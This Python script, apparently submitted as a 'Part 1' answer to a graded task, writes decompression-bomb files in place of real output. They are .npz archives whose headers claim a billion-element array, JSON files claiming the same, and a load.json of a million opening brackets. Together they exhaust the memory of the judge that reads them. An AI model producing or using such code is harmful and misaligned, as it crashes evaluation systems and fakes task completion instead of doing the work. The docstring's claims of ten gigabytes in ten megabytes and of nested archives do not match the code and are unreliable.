"""Part 1, 0 points: writes replies whose arrays are archives of ten gigabytes of zeros in ten megabytes, archives in
archives, and headers that promise more than follows; reading them fills the memory of the judge."""
import json
import os
import pathlib
import zipfile

OUT = pathlib.Path.cwd().parent.parent / "out"
HEAD = b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000,), }"
with zipfile.ZipFile(OUT / "0.npz", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
    with archive.open("a0.npy", "w", force_zip64=True) as stream:
        stream.write(HEAD.ljust(127) + b"\n")
        for _ in range(300):
            stream.write(bytes(2**20))
for k in range(1, 25):
    (OUT / f"{k}.npz").write_bytes((OUT / "0.npz").read_bytes())
for k in range(25):
    (OUT / f"{k}.json").write_text(json.dumps({"value": {"shape": [10**9], "dtype": "f8", "array": "a0"}}))
(OUT / "load.json").write_text("[" * 10**6)
os._exit(0)
